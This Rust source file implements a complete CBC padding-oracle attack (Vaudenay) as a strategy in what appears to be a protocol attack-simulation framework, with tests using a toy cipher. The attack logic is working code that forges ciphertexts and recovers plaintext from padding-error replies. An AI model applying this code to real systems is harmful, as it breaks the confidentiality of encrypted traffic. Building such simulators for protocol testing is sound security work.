//! `padding-oracle`: decrypt CBC with nothing but a victim who tells wrong padding from anything else (Vaudenay 2002).
//!
//! Nothing is told to it about what an answer means. A forgery whose padding is wrong for certain gives the answer to
//! that; whatever is answered otherwise has right padding. Bytes are guessed in the order of their likelihood
//! ([`Ranking`]): random bytes take 128 questions on average, which is the best there is, and text about a tenth.

use std::collections::VecDeque;
use std::sync::Arc;

use bytes::Bytes;
use protocol::layout::{Frame, Role};

use super::ranking::Ranking;
use super::{Strategy, StrategySpec, Tools, ciphertext, reforge, value};
use crate::actions::{Param, ParamKind, number};
use crate::attacker::Acting;
use crate::trace::{Effort, Finding};
use crate::world::{Reply, World};

/// The size of a block in bytes: AES.
const BLOCK: usize = 16;
type Block = [u8; BLOCK];

/// The most questions if nothing else is said.
const BUDGET: u64 = 1_000_000;

/// The name in files and reports.
const NAME: &str = "padding-oracle";

pub(super) const SPEC: StrategySpec = StrategySpec {
    name: NAME,
    about: "decrypt a CBC record by asking its receiver about forged ones",
    waits: true,
    params: &[
        Param::new(
            "budget",
            ParamKind::Number(1, 1 << 40),
            "the most questions; 1000000 if not given",
        ),
        Param::new(
            "skip_last",
            ParamKind::Number(0, 1024),
            "bytes at the end of the plaintext not worth the questions, such as a MAC inside the encryption; 0 if not given",
        ),
    ],
    build: |args| {
        let skip_last = number(args, "skip_last").unwrap_or(0);
        Ok(Arc::new(Plan {
            budget: number(args, "budget").unwrap_or(BUDGET),
            skip_last: usize::try_from(skip_last).unwrap_or(usize::MAX),
        }))
    },
};

#[derive(Clone, Copy, Debug)]
struct Plan {
    budget: u64,
    skip_last: usize,
}

impl Strategy for Plan {
    fn attack(&self, world: &mut World, acting: &Acting, tools: &Tools<'_>) -> Result<(), String> {
        let frame = acting.frame.as_ref().ok_or("there is no frame in hand")?;
        let target = Target::of(frame)?;
        let budget = tools.budget.unwrap_or(self.budget);
        let (link, to, began) = (acting.link, acting.from.other(), world.now());
        let mut ask = |bytes: &[u8]| world.ask(link, to, frame.spec.name, bytes);
        let (mut queries, mut spent) = (0, 0);
        let mut attack = Attack::new(&target, self.skip_last);
        let mut questions = VecDeque::new();
        let ended = loop {
            if queries >= budget {
                break format!("the budget of {budget} questions is spent");
            }
            if questions.is_empty() {
                attack.questions(1, &mut questions);
            }
            let Some(question) = questions.pop_front() else { break attack.verdict() };
            let reply = ask(&target.forge(frame, &question)?);
            queries += 1;
            spent += u64::from(attack.is_decrypting());
            attack.answer(&reply);
            if queries.is_multiple_of(4096) {
                let (done, total) = (attack.plaintext.len() as u64, attack.wanted() as u64);
                tools.progress.tell(NAME, done, total, queries);
            }
        };
        let plaintext = attack.recovered();
        let (now, trace) = (world.now(), world.trace_mut());
        let number = trace.next_number();
        let recovered = attack.plaintext.len();
        if recovered > 0 {
            trace.know(now, NAME, None, Some(number), Finding::Content(plaintext));
        }
        let time = std::time::Duration::from_nanos(now.0 - began.0);
        let idle = (queries >= budget && recovered == 0).then(|| ended.clone());
        let effort =
            Effort { strategy: NAME, queries, tries: 0, recovered, spent, time, ended, idle };
        trace.efforts.push(effort);
        if recovered == 0 {
            world.give_up();
        }
        Ok(())
    }
}

/// A record to decrypt: its blocks, and what stands around them.
#[derive(Clone, Debug)]
pub struct Target {
    /// The block in front of the first one, where it is on the wire.
    iv: Option<Block>,
    /// The ciphertext.
    blocks: Vec<Block>,
    /// The name of the field that has it.
    field: &'static str,
}

impl Target {
    /// The ciphertext of a frame.
    ///
    /// # Errors
    /// It has none, or none that CBC makes.
    pub fn of(frame: &Frame) -> Result<Self, String> {
        let name = frame.spec.name;
        let field = ciphertext(frame).ok_or_else(|| format!("{name} has no ciphertext"))?;
        let ct = frame.field(field).unwrap_or_default();
        let (blocks, rest) = ct.as_chunks::<BLOCK>();
        if !rest.is_empty() || blocks.len() < 2 {
            let len = ct.len();
            return Err(format!(
                "the ciphertext of {name}, {len} bytes, is not two blocks or more"
            ));
        }
        let iv = value(frame, Role::Iv).and_then(|iv| iv.try_into().ok());
        Ok(Self { iv, blocks: blocks.to_vec(), field })
    }

    /// The frame with other ciphertext.
    ///
    /// # Errors
    /// It cannot be put together without something that is not on the wire.
    pub fn forge(&self, frame: &Frame, ciphertext: &[u8]) -> Result<Vec<u8>, String> {
        reforge(frame, &[(self.field, ciphertext)])
    }
}

/// The attack, without IO: [`Attack::questions`] are ciphertexts to be sent, [`Attack::answer`] takes the replies in the same order.
#[derive(Clone, Debug)]
pub struct Attack {
    /// What stands in front of each block that can be decrypted, and the block.
    pairs: Vec<(Block, Block)>,
    whole: Vec<Block>,
    skip_last: usize,
    ranking: Ranking,
    /// How a victim answers wrong padding.
    wrong: Option<Reply>,
    /// Answers to the questions about the length of the padding.
    stage: Stage,
    /// What was recovered, last byte first.
    pub plaintext: Vec<u8>,
    /// How many bytes of the end of the plaintext are not wanted.
    unwanted: usize,
    /// Questions whose answer is still to come, by the byte they guess; 0 where nothing is guessed.
    asked: VecDeque<u8>,
    /// Answers still to come that nobody needs any more.
    stale: usize,
}

#[derive(Clone, PartialEq, Eq, Debug)]
enum Stage {
    /// What is the answer to wrong padding?
    Wrong,
    /// And to right padding of a wrong record?
    Right,
    /// The padding has at least `low` bytes and at most `high`.
    Length { low: usize, high: usize },
    /// Block `at` of the pairs: its intermediate value from byte `from` on.
    Decrypting(Box<Decrypting>),
    /// There is nothing left, or nothing to be had.
    Over(&'static str),
}

#[derive(Clone, PartialEq, Eq, Debug)]
struct Decrypting {
    pair: usize,
    /// The byte that is guessed.
    byte: usize,
    /// The block cipher's output: what the plaintext is before the block in front is mixed in.
    inner: Block,
    guesses: VecDeque<u8>,
    /// There never was more than one guess.
    sure: bool,
    /// The guesses of the last byte that were not tried, in case it was right for the wrong reason.
    spare: VecDeque<u8>,
}

impl Attack {
    /// Decrypt `target`, all but `skip_last` bytes of its end.
    pub fn new(target: &Target, skip_last: usize) -> Self {
        let fronts = target.iv.iter().chain(&target.blocks);
        let skip = usize::from(target.iv.is_none());
        let pairs = fronts.zip(target.blocks.iter().skip(skip)).map(|(a, b)| (*a, *b)).collect();
        Self {
            pairs,
            whole: target.blocks.clone(),
            skip_last,
            ranking: Ranking::default(),
            wrong: None,
            stage: Stage::Wrong,
            plaintext: Vec::new(),
            unwanted: 0,
            asked: VecDeque::new(),
            stale: 0,
        }
    }

    /// Whether bytes are being recovered; before that, it is found out how.
    pub fn is_decrypting(&self) -> bool {
        matches!(self.stage, Stage::Decrypting(_))
    }

    /// The bytes it can recover at most.
    pub fn wanted(&self) -> usize {
        (self.pairs.len() * BLOCK).saturating_sub(self.unwanted)
    }

    /// What was recovered, in the order of the text.
    pub fn recovered(&self) -> Bytes {
        self.plaintext.iter().rev().copied().collect::<Vec<u8>>().into()
    }

    /// How it ended, in words.
    pub fn verdict(&self) -> String {
        match self.stage {
            Stage::Over(how) => how.to_owned(),
            _ => "not finished".to_owned(),
        }
    }

    /// Add the next questions, so that `most` are without an answer at most: several at once save waiting and may be asked
    /// in vain. When none has been added and none is without an answer, all is over.
    pub fn questions(&mut self, most: usize, questions: &mut VecDeque<Vec<u8>>) {
        let question = match &self.stage {
            Stage::Over(_) => return,
            Stage::Decrypting(_) => return self.guess(most, questions),
            // The next question depends on the answer.
            _ if !self.asked.is_empty() => return,
            // No padding is longer than 16 bytes: with its highest bit turned, the last byte says more.
            Stage::Wrong => self.with_turned(BLOCK - 1),
            // A bit turned two blocks before the end changes what is authenticated, and no padding.
            Stage::Right => self.with_front_turned(),
            Stage::Length { low, high } => {
                let middle = *low + (*high - *low) / 2;
                self.with_turned(BLOCK - 1 - middle)
            }
        };
        self.asked.push_back(0);
        questions.push_back(question);
    }

    fn guess(&mut self, most: usize, questions: &mut VecDeque<Vec<u8>>) {
        loop {
            let Stage::Decrypting(work) = &mut self.stage else { return };
            let Some(pair) = self.pairs.get(work.pair) else { return };
            // When one guess is left nobody need be asked, unless the last byte may have been right for the wrong reason.
            let sure = work.sure || !work.may_be_misled();
            if let (true, true, [only]) =
                (sure, self.asked.is_empty(), work.guesses.make_contiguous())
            {
                let only = *only;
                self.found(only);
                continue;
            }
            while self.asked.len() + self.stale < most.max(1) {
                let Some(guess) = work.guesses.pop_front() else { return };
                self.asked.push_back(guess);
                questions.push_back(work.question(guess, pair));
            }
            return;
        }
    }

    /// The whole record, with the highest bit of a byte of its last plaintext block turned.
    fn with_turned(&self, byte: usize) -> Vec<u8> {
        let mut blocks = self.whole.clone();
        let before_last = blocks.len().saturating_sub(2);
        if let Some(byte) = blocks.get_mut(before_last).and_then(|block| block.get_mut(byte)) {
            *byte ^= 0x80;
        }
        blocks.concat()
    }

    /// The whole record with a change that leaves its last plaintext block alone.
    fn with_front_turned(&self) -> Vec<u8> {
        let mut blocks = self.whole.clone();
        if blocks.len() > 2 {
            if let Some(byte) = blocks.first_mut().and_then(|block| block.first_mut()) {
                *byte ^= 0x80;
            }
            blocks.concat()
        } else {
            // Of two blocks the first decides the padding of the second: put it twice.
            let first = blocks.first().copied().unwrap_or_default();
            blocks.insert(0, first);
            blocks.concat()
        }
    }

    /// Take the answer to the oldest question that has none.
    pub fn answer(&mut self, reply: &Reply) {
        if self.stale > 0 {
            self.stale -= 1;
            return;
        }
        let Some(guess) = self.asked.pop_front() else { return };
        let padding_is_wrong = self.wrong.as_ref() == Some(reply);
        if matches!(self.stage, Stage::Over(_)) {
            return;
        }
        if reply.gone {
            self.stage = Stage::Over("nobody answers");
            return;
        }
        if reply.closed {
            self.stage = Stage::Over("a forgery ended the session");
            return;
        }
        match &mut self.stage {
            Stage::Over(_) => {}
            Stage::Wrong => {
                self.wrong = Some(reply.clone());
                self.stage = Stage::Right;
            }
            Stage::Right if padding_is_wrong => {
                self.stage =
                    Stage::Over("wrong padding is answered like anything else that is wrong");
            }
            Stage::Right => self.stage = Stage::Length { low: 1, high: BLOCK },
            Stage::Length { low, high } => {
                let middle = *low + (*high - *low) / 2;
                // The byte that many in front of the last is padding, if a change of it matters.
                if padding_is_wrong {
                    *low = middle + 1;
                } else {
                    *high = middle;
                }
                if low == high {
                    self.unwanted = *low + self.skip_last;
                    self.begin();
                }
            }
            Stage::Decrypting(work) => {
                if !padding_is_wrong {
                    self.found(guess);
                } else if work.guesses.is_empty() && self.asked.is_empty() {
                    self.go_back();
                }
            }
        }
    }

    /// No guess was right. The last byte of the block may have been taken for right because two bytes happened to be 2, or
    /// three 3, and so on: then the guesses after it are still to be tried.
    fn go_back(&mut self) {
        let Stage::Decrypting(work) = &mut self.stage else { return };
        if !work.may_be_misled() {
            self.stage = Stage::Over("no guess is right: the answers are not what they seemed");
            return;
        }
        let (pair, found) = (work.pair, work.byte + 1..BLOCK);
        work.byte = BLOCK - 1;
        work.guesses = std::mem::take(&mut work.spare);
        for byte in found {
            if self.is_wanted(pair, byte) {
                self.plaintext.pop();
                self.ranking.forget();
            }
        }
    }

    /// How many bytes of the plaintext stand behind this one.
    fn behind(&self, pair: usize, byte: usize) -> usize {
        (self.pairs.len() * BLOCK).saturating_sub(pair * BLOCK + byte + 1)
    }

    fn is_wanted(&self, pair: usize, byte: usize) -> bool {
        self.behind(pair, byte) >= self.unwanted
    }

    /// The padding is known: decrypt from the last block that has anything wanted.
    fn begin(&mut self) {
        let pair = self.pairs.len().checked_sub(1 + self.unwanted / BLOCK);
        self.stage = match pair {
            // What is not wanted of that block must be guessed all the same: a byte needs all behind it.
            Some(pair) => Stage::Decrypting(Box::new(Decrypting::new(pair))),
            None => Stage::Over("nothing is left to decrypt"),
        };
        self.prepare();
    }

    /// Get the guesses for the byte whose turn it is.
    fn prepare(&mut self) {
        let Stage::Decrypting(work) = &self.stage else { return };
        let behind = self.behind(work.pair, work.byte);
        let padding = self.unwanted - self.skip_last;
        let guesses = if behind < padding {
            // Padding is known already.
            vec![u8::try_from(padding).unwrap_or_default()]
        } else if behind < self.unwanted {
            (0..=u8::MAX).collect()
        } else {
            self.ranking.guesses()
        };
        let Stage::Decrypting(work) = &mut self.stage else { return };
        work.sure = guesses.len() == 1;
        work.guesses = guesses.into();
    }

    /// A guess was right.
    fn found(&mut self, guess: u8) {
        let Stage::Decrypting(work) = &mut self.stage else { return };
        let (pair, byte) = (work.pair, work.byte);
        let front = self.pairs.get(pair).and_then(|(front, _)| front.get(byte)).copied();
        if let (Some(inner), Some(front)) = (work.inner.get_mut(byte), front) {
            *inner = guess ^ front;
        }
        let rest = std::mem::take(&mut work.guesses);
        self.stale += self.asked.len();
        if byte + 1 == BLOCK {
            work.spare = self.asked.drain(..).chain(rest).collect();
        }
        self.asked.clear();
        match (byte.checked_sub(1), pair.checked_sub(1)) {
            (Some(byte), _) => work.byte = byte,
            (None, Some(pair)) => **work = Decrypting::new(pair),
            (None, None) => self.stage = Stage::Over("decrypted"),
        }
        if self.is_wanted(pair, byte) {
            self.plaintext.push(guess);
            self.ranking.learn(guess);
        }
        self.prepare();
    }
}

impl Decrypting {
    fn new(pair: usize) -> Self {
        let (guesses, spare) = (VecDeque::new(), VecDeque::new());
        Self { pair, byte: BLOCK - 1, inner: [0; BLOCK], guesses, sure: false, spare }
    }

    /// Whether a wrong last byte would show here: no guess is right then. If two bytes were 2, the byte in front of it has
    /// any value, for the last one is 1 when it is asked for, and the one in front of that has none. If more bytes were alike,
    /// the byte in front of the last one has none.
    fn may_be_misled(&self) -> bool {
        matches!(BLOCK - self.byte, 2 | 3) && !self.spare.is_empty()
    }

    /// Two blocks whose plaintext ends with right padding if the guess is right.
    fn question(&self, guess: u8, (front, block): &(Block, Block)) -> Vec<u8> {
        let padding = u8::try_from(BLOCK - self.byte).unwrap_or_default();
        let mut forged = [0; BLOCK];
        let bytes = forged.iter_mut().zip(self.inner).zip(*front).enumerate();
        for (at, ((forged, inner), front)) in bytes {
            *forged = match at.cmp(&self.byte) {
                // Anything; not the original, so that its padding cannot come through, and nothing that makes padding of text.
                std::cmp::Ordering::Less => front ^ 0x80,
                std::cmp::Ordering::Equal => guess ^ front ^ padding,
                std::cmp::Ordering::Greater => inner ^ padding,
            };
        }
        [forged, *block].concat()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A block cipher that is none, which makes no difference to the attack.
    fn encipher(block: Block) -> Block {
        let mut out = block.map(|byte| byte.wrapping_mul(167).rotate_left(3).wrapping_add(29));
        out.reverse();
        out
    }

    fn decipher(mut block: Block) -> Block {
        // 167 * 23 = 3841 = 1 modulo 256.
        block.reverse();
        block.map(|byte| byte.wrapping_sub(29).rotate_right(3).wrapping_mul(23))
    }

    fn xor(a: Block, b: Block) -> Block {
        std::array::from_fn(|at| a[at] ^ b[at])
    }

    fn encrypt(iv: Block, text: &[u8]) -> Vec<Block> {
        let padding = BLOCK - text.len() % BLOCK;
        let mut padded = text.to_vec();
        padded.resize(text.len() + padding, u8::try_from(padding).unwrap());
        let mut last = iv;
        let (blocks, _) = padded.as_chunks::<BLOCK>();
        blocks
            .iter()
            .map(|block| {
                last = encipher(xor(*block, last));
                last
            })
            .collect()
    }

    fn padding_is_right(iv: Block, ciphertext: &[u8]) -> bool {
        let (blocks, _) = ciphertext.as_chunks::<BLOCK>();
        let [.., front, last] = [&[iv], blocks].concat()[..] else { return false };
        let text = xor(decipher(last), front);
        let count = usize::from(text[BLOCK - 1]);
        (1..=BLOCK).contains(&count)
            && text[BLOCK - count..].iter().all(|b| usize::from(*b) == count)
    }

    /// Attack, with `most` questions on their way at most; what was recovered, and how many questions that took.
    fn attack(iv: Block, known_iv: bool, text: &[u8], skip: usize, most: usize) -> (Attack, usize) {
        let target = Target { iv: known_iv.then_some(iv), blocks: encrypt(iv, text), field: "ct" };
        let mut attack = Attack::new(&target, skip);
        let (mut asked, mut waiting, mut new) = (0, VecDeque::new(), VecDeque::new());
        loop {
            attack.questions(most, &mut new);
            asked += new.len();
            waiting.append(&mut new);
            assert!(waiting.len() <= most);
            let Some(question) = waiting.pop_front() else { return (attack, asked) };
            let said = if padding_is_right(iv, &question) { &b"mac"[..] } else { b"padding" };
            let segments = vec![Bytes::from_static(said)];
            attack.answer(&Reply { segments, ..Reply::default() });
        }
    }

    #[test]
    fn recovers_texts_of_every_length_with_and_without_the_first_block() {
        let text: Vec<u8> = (0..70u8).map(|at| at.wrapping_mul(73) ^ 0x5a).collect();
        for len in 0..text.len() {
            let text = &text[..len];
            let (whole, _) = attack([7; BLOCK], true, text, 0, 1);
            if len >= BLOCK {
                assert_eq!(whole.recovered(), text, "{len} bytes");
                let (rest, _) = attack([7; BLOCK], false, text, 0, 1);
                assert_eq!(rest.recovered(), &text[BLOCK..], "{len} bytes, no IV");
                let (some, _) = attack([7; BLOCK], true, text, 5, 1);
                assert_eq!(some.recovered(), &text[..len - 5], "{len} bytes, but five");
            }
        }
    }

    #[test]
    fn asking_ahead_recovers_the_same_with_more_questions() {
        let text = b"the quick brown fox jumps over the lazy dog, and then it sleeps";
        let (one, asked) = attack([9; BLOCK], true, text, 0, 1);
        assert_eq!(one.recovered(), &text[..]);
        for most in [2, 8, 64, 300] {
            let (many, more) = attack([9; BLOCK], true, text, 0, most);
            assert_eq!(many.recovered(), &text[..], "{most} at a time");
            assert!(asked < more);
        }
    }

    #[test]
    fn a_last_byte_that_was_right_for_the_wrong_reason_is_found_again() {
        for seed in 0..64 {
            let mut entropy = protocol::entropy::Entropy::new(seed, "misleading");
            let mut text: [u8; 64] = entropy.bytes();
            // What a question makes of these is padding of two bytes, three, and so on, for one guess of the last byte.
            let alike = 2 + usize::try_from(seed % 15).unwrap();
            for block in text.chunks_exact_mut(BLOCK) {
                block[BLOCK - alike..BLOCK - 1].fill(0x80 | u8::try_from(alike).unwrap());
            }
            for most in [1, 7, 300] {
                let (attack, _) = attack(entropy.bytes(), true, &text, 0, most);
                assert_eq!(attack.recovered(), &text[..], "{alike} bytes alike, {most} at a time");
            }
        }
    }

    #[test]
    fn random_bytes_take_128_questions_each() {
        let mut entropy = protocol::entropy::Entropy::new(3, "plaintext");
        let text: [u8; 4096] = entropy.bytes();
        let (attack, asked) = attack(entropy.bytes(), true, &text, 0, 1);
        assert_eq!(attack.recovered(), &text[..]);
        let mean = asked / text.len();
        assert!((124..=131).contains(&mean), "{mean}");
    }

    #[test]
    fn a_victim_that_answers_alike_or_closes_gives_nothing() {
        let target = Target { iv: None, blocks: encrypt([0; BLOCK], &[1; 64]), field: "ct" };
        let silent = Reply { segments: vec![Bytes::from_static(b"no")], ..Reply::default() };
        for (reply, why) in [
            (silent, "wrong padding is answered like anything else that is wrong"),
            (Reply { closed: true, ..Reply::default() }, "a forgery ended the session"),
            (Reply { gone: true, ..Reply::default() }, "nobody answers"),
        ] {
            let mut attack = Attack::new(&target, 0);
            let mut questions = VecDeque::new();
            for _ in 0..4 {
                attack.questions(1, &mut questions);
                if questions.pop_front().is_some() {
                    attack.answer(&reply);
                }
            }
            assert_eq!((attack.verdict(), attack.plaintext.len()), (why.to_owned(), 0));
        }
    }
}
